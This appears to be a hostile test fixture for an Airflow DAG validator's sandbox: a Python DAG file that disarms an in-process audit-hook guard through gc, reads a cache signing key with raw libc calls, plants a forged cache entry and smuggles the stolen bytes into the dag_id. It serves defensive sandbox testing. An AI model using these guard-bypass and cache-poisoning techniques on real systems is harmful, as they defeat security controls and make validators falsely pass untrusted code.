import ctypes
import gc
import os

# The audit-hook guard is Python in the same process: switch it off, so that what
# stops this file is the kernel (Landlock, seccomp, rlimits), nothing else.
for thing in gc.get_objects():
    if type(thing).__name__ == "Guard":
        thing.armed = False
libc = ctypes.CDLL(None, use_errno=True)

# Read the cache's signing key and plant an entry in the cache folder, to make a later
# run report an honest file clean.
stolen = []
for path in ("{XDG}/mojap-airflow-validation/cache-key", "{CACHE}"):
    fd = libc.open(path.encode(), os.O_RDONLY)
    if fd >= 0:
        buffer = ctypes.create_string_buffer(4096)
        stolen.append(buffer.raw[:max(0, libc.read(fd, buffer, 4096))])
libc.mkdir(b"{CACHE}", 0o755)
libc.open(b"{CACHE}/planted", os.O_WRONLY | os.O_CREAT, 0o644)


from datetime import datetime  # noqa: E402

from airflow.models import DAG  # noqa: E402
from mojap_airflow_tools.operators import BasicKubernetesPodOperator  # noqa: E402

dag = DAG(
    dag_id="hostile.poisons_cache" + ("" if not stolen else repr(stolen)),
    default_args={"owner": "hostile"},
    start_date=datetime(2022, 1, 1),
    schedule_interval=None,
)
BasicKubernetesPodOperator(
    dag=dag,
    repo_name="hostile",
    release="v1.0.0",
    role="airflow_dev_hostile",
    task_id="task-1",
)
